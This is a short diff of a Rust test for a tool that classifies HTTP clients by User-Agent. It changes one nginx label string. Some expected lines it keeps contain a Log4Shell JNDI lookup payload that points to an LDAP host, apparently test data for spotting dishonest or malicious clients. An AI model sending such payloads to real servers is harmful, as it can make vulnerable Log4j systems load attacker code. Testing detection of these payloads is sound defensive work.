@@ -88,7 +88,7 @@ fn text_that_contradicts_stands_beside_the_name() {
         r#"curl 7.43 or newer (custom User-Agent) "${jndi:ldap://192.0.2.9:1389/a}", GET"#,
         // The text has the name.
         r#"curl 7.43 or newer "curl/8.5.0 ${jndi:ldap://192.0.2.9:1389/a}", GET"#,
-        "nginx or made of it (OpenResty, Tengine), 200 OK",
+        "nginx or based on nginx (OpenResty, Tengine), 200 OK",
         "curl (dishonest) (1)",
     ] {
         assert!(lines.contains(line), "{line}: {lines}");
